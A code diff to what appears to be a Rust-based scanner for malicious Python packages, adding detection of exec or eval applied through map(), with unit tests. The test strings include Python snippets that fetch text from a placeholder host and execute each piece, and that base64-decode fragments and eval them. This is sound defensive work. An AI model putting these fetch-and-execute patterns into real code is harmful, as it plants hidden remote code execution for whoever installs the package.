@@ -181,6 +181,15 @@ pub(crate) fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     check_loads_saved_file(checker, call, qualname);
     check_unpickle(checker, call, qualname);
+    // `list(map(exec, chunks))`: exec called on every item, with no `exec(` in the text.
+    if qualname == "map"
+        && let [function, items, ..] = call.arguments.args.as_ref()
+        && let Some(mapped) = checker.qualname(function)
+        && is_exec(&mapped)
+    {
+        check_executed(checker, call.range(), items, &mapped);
+        return;
+    }
     if !is_exec(qualname) {
         return;
     }
@@ -599,6 +608,17 @@ mod tests {
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
         let code = "__import__('builtins').exec(__import__('base64').b64decode(p))\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn exec_mapped_over_items_runs_each_of_them() {
+        let fetched = "import requests\nlist(map(exec, requests.get('https://h.example.invalid/raw').text.split(';')))\n";
+        assert!(max_severity("p/pkg/__init__.py", fetched, "WH110") >= 0.9);
+        let decoded = "import base64\nPARTS = ['aW1wb3J0IG9z', 'cHJpbnQoMSk=']\nfor _ in map(eval, map(base64.b64decode, PARTS)):\n    pass\n";
+        assert!(max_severity("p/pkg/__init__.py", decoded, "WH110") >= 0.3);
+        // Mapping anything else is no exec.
+        let plain = "import requests\nlist(map(print, requests.get('https://h.example.invalid/').text.split()))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH110"), 0.0);
     }
 
     #[test]
